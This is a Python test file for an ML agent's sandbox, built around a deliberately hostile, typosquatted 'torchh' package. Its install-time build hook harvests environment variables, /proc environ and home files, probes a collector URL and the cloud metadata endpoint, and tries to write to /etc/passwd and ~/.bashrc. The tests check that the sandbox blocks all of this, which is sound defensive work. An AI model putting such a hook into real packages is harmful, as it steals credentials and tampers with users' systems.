"""Packages that run code while they are installed, and runs that make more than may come out."""

import io
import json
import os
import tarfile
import threading
from collections.abc import Iterator
from contextlib import nullcontext
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from ml_agent.outputs import MOST_BYTES, MOST_TOTAL
from ml_agent.sandbox.bubblewrap import find_bubblewrap
from tests.hostile.conftest import ml_agent
from tests.sandbox.engines import bridge_address, engine_by_tcp
from tests.servers.git_folders import write_files

WAYS = [pytest.param("docker", marks=pytest.mark.docker), "local"]
HOOK = '''"""A build backend that looks around: what it sees goes into the package that it makes."""
import itertools, os, pathlib, urllib.request, zipfile

def seen():
    text = [f"{name}={value}" for name, value in os.environ.items()]
    places = ["/proc/1", "/proc/self", "/proc/%d" % os.getppid(), os.path.expanduser("~"), "/root", "/home", "@HOME@", "@CACHE@", "@HOST@"]
    for place in map(pathlib.Path, places):
        for path in [place, place / "environ", *itertools.islice(place.rglob("*") if "proc" not in str(place) else [], 400)]:
            try:
                text.append(path.open(errors="replace").read(5000))
            except OSError:
                pass
    for address in ("http://@COLLECTOR@/x", "http://169.254.169.254/"):
        for proxies in (None, {}):
            try:
                opener = urllib.request.build_opener(*([] if proxies is None else [urllib.request.ProxyHandler(proxies)]))
                text.append("reached".upper() + " " + str(opener.open(address, timeout=3).status))
            except OSError:
                pass
    for path in ("@HOST@", "@HOME@/.bashrc", "/etc/passwd", "/usr/bin/python3"):
        try:
            open(path, "a").write("x")
            text.append("wrote".upper() + " " + path)
        except OSError:
            pass
    return "\\n".join(text)

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "torchh-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("torchh.py", "SEEN = " + repr("HOOK RAN\\n" + seen()))
        wheel.writestr("torchh-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: torchh\\nVersion: 1.0\\n")
        wheel.writestr("torchh-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("torchh-1.0.dist-info/RECORD", "torchh.py,,\\n")
    return name
'''
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n[project]\nname = "torchh"\nversion = "1.0"\n'
FIT = (
    "import argparse, torchh\np = argparse.ArgumentParser()\np.add_argument('--lr', type=float)\np.parse_args()\n"
    "open('seen.txt', 'w').write(torchh.SEEN)\n"
)
MANY = (
    "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--lr', type=float)\np.parse_args()\nos.mkdir('out')\n"
    "for n in range(12):\n    open(f'out/{n}.bin', 'wb').truncate(63 * 1024**2)\n"
    "open('large', 'wb').truncate(100 * 1024**2)\nos.symlink('large', 'link')\nopen('small.txt', 'w').write('x')\n"
)
README = "# Fit\n\nFit the model:\n\n```bash\npython fit.py --lr 0.5\n```\n"


@pytest.fixture
def index(tmp_path: Path, canaries: Any, way: str) -> Iterator[str]:
    """A package index with one package, whose name is nearly that of another; the same server notes who else is asked for."""
    asked: list[str] = []

    class Handler(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            asked.append(self.path)

    root = tmp_path / "index"
    here = bridge_address() if way == "elsewhere" else "127.0.0.1"
    server = ThreadingHTTPServer((here, 0), partial(Handler, directory=str(root)))
    collector = ThreadingHTTPServer(
        ("0.0.0.0", 0), partial(SimpleHTTPRequestHandler, directory=str(tmp_path / "cache"))
    )
    hook = HOOK.replace("@HOME@", str(canaries.home)).replace("@CACHE@", str(tmp_path / "cache"))
    hook = hook.replace("@HOST@", str(canaries.file)).replace("@COLLECTOR@", f"{here}:{collector.server_port}")
    write_files(root, {"simple/torchh/index.html": "<a href='/files/torchh-1.0.tar.gz'>torchh-1.0.tar.gz</a>"})
    (root / "files").mkdir()
    with tarfile.open(root / "files/torchh-1.0.tar.gz", "w:gz") as archive:
        for name, text in {
            "pyproject.toml": PROJECT,
            "hook.py": hook,
            "PKG-INFO": "Metadata-Version: 2.1\nName: torchh\nVersion: 1.0\n",
        }.items():
            entry = tarfile.TarInfo(f"torchh-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    for one in (server, collector):
        threading.Thread(target=one.serve_forever, daemon=True).start()
    yield f"http://{here}:{server.server_port}/simple"
    server.shutdown()
    collector.shutdown()


def _solve(way: str, place: Path, network: str) -> dict[str, Any]:
    if way == "local" and find_bubblewrap() is None:
        pytest.skip("bubblewrap does not work here")
    words = [
        "solve",
        "fit the model with lr 0.25",
        "--repo",
        "fitting",
        "--run",
        "full",
        "--sandbox",
        way,
        "--network",
        network,
    ]
    done = ml_agent(*words, "--out", "out", "--json", "--quiet", cwd=place, timeout=400, environment=dict(os.environ))
    assert done.stdout, done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    result["said"] = done.stdout + done.stderr
    return result


@pytest.mark.promise(
    "A package that runs code while it is installed, a misspelt one too, reaches no key, no home, no host and no network.",
    by="sandbox, sandbox.gate, ml_agent.keys",
)
@pytest.mark.parametrize("way", [*WAYS, pytest.param("elsewhere", marks=pytest.mark.docker)])
@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_a_build_hook_reaches_nothing(
    way: str, tmp_path: Path, canaries: Any, index: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", index)
    monkeypatch.setenv("ML_AGENT_CACHE_DIR", str(tmp_path / "cache/ml-agent"))
    write_files(
        tmp_path / "fitting",
        {"fit.py": FIT, "README.md": README, "requirements.txt": "torchh==1.0\n", ".env": canaries.secret},
    )
    with engine_by_tcp() if way == "elsewhere" else nullcontext("") as address:
        if address:
            monkeypatch.setenv("DOCKER_HOST", address)
            monkeypatch.setenv("PIP_TRUSTED_HOST", bridge_address())
        result = _solve("docker" if address else way, tmp_path, "install")
    seen = tmp_path / "out/outputs/seen.txt"
    assert seen.exists() and seen.read_text().startswith("HOOK RAN"), (
        f"no hook was run, so nothing was tried: {result['said'][-2000:]}"
    )
    assert "REACHED" not in seen.read_text() and str(canaries.file) not in seen.read_text().partition("WROTE")[2]
    assert canaries.leaked_into(seen, tmp_path / "out", result["said"]) == []


@pytest.mark.promise("What a run made comes out up to a limit, as a whole or not at all.", by="ml_agent.outputs")
@pytest.mark.parametrize("way", WAYS)
def test_sparse_outputs_do_not_fill_the_disk(way: str, tmp_path: Path) -> None:
    write_files(tmp_path / "fitting", {"fit.py": MANY, "README.md": README})
    _solve(way, tmp_path, "none")
    outputs = {path.name: path.stat().st_size for path in (tmp_path / "out/outputs").rglob("*") if path.is_file()}
    assert "small.txt" in outputs and sum(outputs.values()) <= MOST_TOTAL and max(outputs.values()) <= MOST_BYTES
    assert sum(name.endswith(".bin") for name in outputs) == MOST_TOTAL // (63 * 1024**2)
    assert "large" not in outputs and "link" not in outputs, "half a file is none"
